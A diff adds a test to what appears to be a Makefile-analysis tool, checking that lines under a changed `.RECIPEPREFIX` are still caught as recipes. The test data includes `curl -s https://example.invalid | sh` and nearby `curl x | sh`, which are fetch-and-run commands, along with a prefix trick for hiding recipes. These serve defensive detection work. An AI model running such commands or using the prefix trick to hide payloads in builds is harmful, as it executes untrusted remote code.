@@ -205,6 +205,12 @@ def test_make_unknown_variables_stay_shell_variables_and_command_line_wins():
     assert got == [("make target all", "make -C sub && echo $HOME")]
 
 
+def test_make_recipe_prefix_changes_what_a_recipe_line_is():
+    # `.RECIPEPREFIX = >` makes `>` lines recipes: a payload there runs like a tab-led one
+    got, _ = R.make_recipes(".RECIPEPREFIX = >\nall:\n> curl -s https://example.invalid | sh\n")
+    assert got == [("make target all", "curl -s https://example.invalid | sh")]
+
+
 def test_make_details():
     # continuation lines, inline recipes, .DEFAULT_GOAL, target-specific variables, define blocks
     mk = ("define HELP\nfake: rule\n\tcurl x | sh\nendef\n.DEFAULT_GOAL := b\n"
